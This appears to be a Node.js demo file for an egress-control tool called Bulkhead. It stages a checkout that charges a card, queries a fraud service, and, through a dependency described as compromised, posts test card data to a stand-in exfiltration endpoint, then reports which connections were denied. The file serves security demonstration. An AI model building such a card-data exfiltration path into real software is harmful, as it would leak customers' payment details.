'use strict';
// What the demo's payments function does on every request, on all three clouds: charge the card
// through the payments API, ask the fraud-scoring service, and — because one of its npm dependencies
// was compromised — try to post the card data to an attacker. Bulkhead decides each connection; this
// file only reports what happened. Destinations come from DEMO_*_URL variables set by the demo.

const analytics = require('analytics-lite');

const PAYLOAD = { card: '4242 4242 4242 4242', amount: 1999 };

function post(url) {
  return fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(PAYLOAD),
    signal: AbortSignal.timeout(3000),
  });
}

const DESTINATIONS = [
  { label: 'charge card', variable: 'DEMO_PAYMENTS_URL', path: '/v1/charges', send: post },
  { label: 'fraud score', variable: 'DEMO_FRAUD_URL', path: '/v1/score', send: post },
  // The compromised dependency (node_modules/analytics-lite) opens this one itself.
  {
    label: 'compromised dependency',
    variable: 'DEMO_EXFIL_URL',
    path: '/collect',
    send: (url) => analytics.track(url, PAYLOAD),
  },
];

async function attempt(url, send) {
  try {
    const response = await send(url);
    await response.arrayBuffer();
    return { outcome: 'allowed', status: response.status };
  } catch (error) {
    // fetch wraps the socket error: Bulkhead's denial is the cause.
    const cause = error?.cause ?? error;
    if (cause?.code === 'ERR_BULKHEAD_DENIED') return { outcome: 'denied', reason: cause.message };
    return {
      outcome: 'failed',
      reason: `${cause?.code ?? ''} ${cause?.message ?? error}`.trim(),
    };
  }
}

async function checkout(env = process.env) {
  const results = [];
  for (const destination of DESTINATIONS) {
    const base = env[destination.variable];
    if (!base) continue;
    const url = new URL(destination.path, base);
    results.push({ label: destination.label, host: url.hostname, ...(await attempt(url, destination.send)) });
  }
  return results;
}

module.exports = { checkout };
